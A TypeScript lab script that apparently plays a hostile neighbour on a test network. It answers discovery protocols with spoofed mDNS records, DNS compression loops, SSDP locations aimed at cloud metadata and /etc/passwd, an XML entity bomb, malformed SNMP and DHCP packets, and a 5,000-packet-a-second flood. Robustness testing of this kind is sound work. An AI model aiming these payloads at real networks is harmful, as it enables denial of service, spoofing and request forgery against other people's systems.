/** A hostile neighbour: answers lies, and after the word `flood` sends 5,000 packets a second for so many seconds. */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { createServer } from 'node:http';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import * as packet from 'dns-packet';
import { AGENT, HOSTILE, METADATA } from './plan.ts';
import { PREFIX } from './terms.ts';

const SECONDS = Number(process.argv[2] ?? 30);
const PER_SECOND = 5_000;
const BATCH_MS = 10;
/** A datagram of UDP can hold hardly more. */
const HUGE = 'A'.repeat(60_000);
const VICTIM = `${PREFIX}.30`;
const NL = '\r\n';

execFileSync('sh', [
  '-ec',
  `ip link set eth0 up; ip addr add ${HOSTILE.ipv4}/24 dev eth0; ip route add default via ${PREFIX}.1; ip route add 255.255.255.255 dev eth0`,
]);

const HEADER = Buffer.from([0, 0, 0x84, 0, 0, 0, 0xff, 0xff, 0, 0, 0, 0]);
/** A name that leads to itself, one that leads to the other, one behind the end, labels without end. */
const LOOPS = [
  Buffer.concat([HEADER, Buffer.from([0xc0, 12, 0, 12, 0, 1, 0, 0, 0, 10, 0, 2, 0xc0, 12])]),
  Buffer.concat([HEADER, Buffer.from([0xc0, 14, 0xc0, 12, 0, 12, 0, 1, 0, 0, 0, 10, 0, 2, 0xc0, 12])]),
  Buffer.concat([HEADER, Buffer.from([0xff, 0xff, 0, 12, 0, 1])]),
  Buffer.concat([HEADER, Buffer.alloc(60_000, Buffer.from([1, 0x61]))]),
];

/** What it says of others: that the printer is a television that it serves, and has a name of its choice. */
const LIES = packet.encode({
  type: 'response',
  flags: packet.AUTHORITATIVE_ANSWER,
  answers: [
    { type: 'PTR', name: '_googlecast._tcp.local', ttl: 120, data: 'OWNED._googlecast._tcp.local' },
    { type: 'SRV', name: 'OWNED._googlecast._tcp.local', ttl: 120, data: { port: 8009, target: 'owned.local' } },
    { type: 'TXT', name: 'OWNED._googlecast._tcp.local', ttl: 120, data: ['md=OWNED', 'fn=OWNED'] },
    { type: 'A', name: 'owned.local', ttl: 120, data: VICTIM },
    { type: 'PTR', name: `${VICTIM.split('.').reverse().join('.')}.in-addr.arpa`, ttl: 120, data: 'owned.local' },
    { type: 'A', name: 'BRW001BA9780130.local', ttl: 120, data: HOSTILE.ipv4 },
  ],
});
const TXT_64K = packet.encode({
  type: 'response',
  answers: [
    {
      type: 'TXT',
      name: 'x._http._tcp.local',
      ttl: 120,
      data: Array.from({ length: 230 }, (_, at) => `k${at}=${'v'.repeat(240)}`),
    },
  ],
});

const ssdp = (location: string, more: string) =>
  Buffer.from(
    [
      'HTTP/1.1 200 OK',
      `LOCATION: ${location}`,
      `SERVER: ${more}`,
      'ST: upnp:rootdevice',
      'USN: uuid:owned::upnp:rootdevice',
      '',
      '',
    ].join(NL),
  );
const LOCATIONS = [
  `http://${METADATA}/latest/meta-data/`,
  `http://${HOSTILE.ipv4}:8000/redirect`,
  `http://${HOSTILE.ipv4}:8000/endless`,
  `http://${HOSTILE.ipv4}:8000/bomb`,
  `http://${HOSTILE.ipv4}:8000/hang`,
  `http://${VICTIM}/owned.xml`,
  'http://127.0.0.1:8791/devices',
  'file:///etc/passwd',
];
const SSDP = [...LOCATIONS.map((location) => ssdp(location, 'OWNED/1.0')), ssdp(LOCATIONS[1] ?? '', HUGE)];

/** A DHCP request of somebody with another MAC in it, with options that reach beyond its end. */
function dhcp(): Buffer {
  const fixed = Buffer.concat([
    Buffer.from([1, 1, 6, 0]),
    randomBytes(4),
    Buffer.alloc(20),
    randomBytes(6),
    Buffer.alloc(202),
  ]);
  return Buffer.concat([
    fixed,
    Buffer.from([0x63, 0x82, 0x53, 0x63, 53, 1, 3, 12, 5, 0x4f, 0x57, 0x4e, 0x45, 0x44, 60, 255, 1, 2]),
  ]);
}

async function bound(port: number, group?: string): Promise<Socket> {
  const socket = createSocket({ type: 'udp4', reuseAddr: true });
  await new Promise<void>((resolve) => socket.bind(port, resolve));
  socket.setBroadcast(true);
  socket.setMulticastInterface(HOSTILE.ipv4);
  if (group !== undefined) socket.addMembership(group, HOSTILE.ipv4);
  socket.on('error', () => {});
  return socket;
}

const mdns = await bound(5353, '224.0.0.251');
const search = await bound(1900, '239.255.255.250');
const request = await bound(68);
const netbios = await bound(137);
const snmp = await bound(161);
const MDNS = [...LOOPS, LIES, TXT_64K];
const SMALL = [...LOOPS.slice(0, 3), LIES];
mdns.on('message', (_, from) => {
  for (const each of MDNS) mdns.send(each, from.port, from.address);
});
search.on('message', (_, from) => {
  for (const each of SSDP) search.send(each, from.port, from.address);
});
netbios.on('message', (question, from) => {
  netbios.send(
    Buffer.concat([question.subarray(0, 2), Buffer.alloc(55), Buffer.from([255]), randomBytes(40)]),
    from.port,
    from.address,
  );
  netbios.send(Buffer.alloc(60_000, 0xff), from.port, from.address);
});
snmp.on('message', (_, from) => {
  // A sequence that says it is far longer than it is, nested ones, and noise.
  for (const each of [
    Buffer.from([0x30, 0x84, 0x7f, 0xff, 0xff, 0xff, 2, 1, 1]),
    Buffer.alloc(20_000, Buffer.from([0x30, 0x80])),
    randomBytes(400),
  ])
    snmp.send(each, from.port, from.address);
});

createServer((asked, response) => {
  if (asked.url === '/redirect')
    return response.writeHead(302, { location: `http://${METADATA}/latest/meta-data/` }).end();
  if (asked.url === '/hang') return;
  if (asked.url === '/bomb') {
    const entities = Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(20)}">`).join('');
    return response.end(
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "OWNED">${entities}]><root><device><friendlyName>&a20;</friendlyName></device></root>`,
    );
  }
  const more = () => {
    while (!response.destroyed && response.write(HUGE));
  };
  response.on('drain', more);
  more();
}).listen(8000, HOSTILE.ipv4);

/** Four of five go to the agent alone: the others cost every host of the lab, which are all on this machine. */
async function flood(): Promise<number> {
  const from = performance.now();
  let sent = 0;
  for (let spent = 0; spent < SECONDS * 1_000; spent = performance.now() - from) {
    for (const due = Math.min((spent / 1_000) * PER_SECOND, sent + PER_SECOND); sent < due; sent++) {
      const isForAll = sent % 5 === 0;
      const each = Math.floor(sent / 5);
      // The huge ones are 40 packets each, so few of them.
      const mdnsText = each % 200 === 0 ? TXT_64K : (SMALL[each % SMALL.length] ?? LIES);
      if (each % 3 === 0) mdns.send(mdnsText, 5353, isForAll ? '224.0.0.251' : AGENT.ipv4);
      else if (each % 3 === 1)
        search.send(SSDP[each % LOCATIONS.length] ?? LIES, 1900, isForAll ? '239.255.255.250' : AGENT.ipv4);
      else request.send(dhcp(), 67, isForAll ? '255.255.255.255' : AGENT.ipv4);
    }
    await sleep(BATCH_MS);
  }
  return sent;
}

console.log(JSON.stringify({ event: 'ready' }));
for await (const line of createInterface({ input: process.stdin })) {
  if (line === 'flood') console.log(JSON.stringify({ event: 'flooded', sent: await flood() }));
}
process.exit(0);
